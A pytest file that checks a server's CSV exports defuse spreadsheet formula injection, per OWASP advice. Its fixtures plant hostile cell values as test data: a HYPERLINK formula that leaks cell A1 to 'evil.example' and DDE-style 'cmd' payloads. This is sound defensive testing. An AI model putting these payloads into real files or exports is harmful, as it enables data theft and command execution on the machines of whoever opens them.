"""Every CSV export neutralises cells a spreadsheet would run as a formula (OWASP's CSV injection advice):
the customer's GDPR export, head office's ticket export and a segment's export; SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io

import pytest

from server.desk import corrections
from server.desk.csv_cells import cell

from ..fixtures.desk import Desk
from ..fixtures.headoffice import CARDS, build_known_set, close_office, register_customers

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Customer A")'
PERIOD = "start=2026-01-01&end=2026-01-31"


@pytest.fixture
def office(tmp_path, fast_argon2, office_target):
    """The known data set; customer 1's name and the cashier of store S001's tickets are formulas
    (a desk user typed one; a hostile till sent one)."""
    desk = Desk(tmp_path, office_target)
    build_known_set(desk.db_path)
    register_customers(desk.conn)
    with desk.conn:
        desk.conn.execute("UPDATE customers SET name = ?, postcode = ? WHERE id = 1", (FORMULA, "@SUM(1+1)"))
        desk.conn.execute("UPDATE tickets SET cashier = ? WHERE store = 'S001'", ("+cmd|' /C calc'!A0",))
    corrections.adjust(desk.conn, 1, CARDS["A"], -5, "goodwill taken back", "seed")
    yield desk
    close_office(desk)


def rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


def test_the_customer_export_neutralises_formulas_and_keeps_negative_numbers(office):
    exported = rows(office.client("card_manager").get("/customers/1/export.csv"))
    fields = {r[4]: r[5] for r in exported if r[0] == "customer"}
    assert fields["name"] == "'" + FORMULA and fields["postcode"] == "'@SUM(1+1)"
    taken = [r for r in exported if r[0] == "ledger" and r[4] == "adjust"]
    assert [r[12] for r in taken] == ["-5"]  # a number stays a number


def test_the_ticket_export_neutralises_what_a_till_sent(office):
    exported = rows(office.client("head_office").get("/office/tickets.csv?store=S001"))
    cashier = exported[0].index("cashier")
    assert {r[cashier] for r in exported[1:]} == {"'+cmd|' /C calc'!A0"}


def test_the_segment_export_neutralises_names(office):
    exported = rows(office.client("head_office").get(f"/office/segments.csv?{PERIOD}&channel=email"))
    assert exported[1][:3] == ["1", "'" + FORMULA, "a@example.org"]


@pytest.mark.parametrize(
    "value,written",
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd", "'+1+cmd"),
        ("-1+A1", "'-1+A1"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("+1)*cmd|' /C calc'!A0", "'+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("+33 6 12 34 56 78", "+33 6 12 34 56 78"),
        ("-5", "-5"),
        ("+44 (0)20 7946-0958", "+44 (0)20 7946-0958"),
        ("Marie", "Marie"),
        ("", ""),
        (-5, -5),
        (0, 0),
        (None, None),
        (-2.5, -2.5),
        ("a=b", "a=b"),
    ],
)
def test_a_cell(value, written):
    assert cell(value) == written
